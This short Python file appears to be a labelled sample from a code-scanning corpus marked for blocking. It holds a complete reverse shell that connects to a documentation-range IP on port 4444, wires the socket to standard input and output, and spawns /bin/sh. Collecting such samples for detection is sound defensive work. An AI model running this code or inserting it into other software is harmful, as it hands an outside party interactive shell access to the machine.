# pyguard-corpus: verdict=block category=import rules=PG101,PG205
# what: classic reverse shell: connects out, duplicates the socket onto stdin/stdout/stderr and spawns a shell
import os
import pty
import socket

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("198.51.100.23", 4444))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
pty.spawn("/bin/sh")
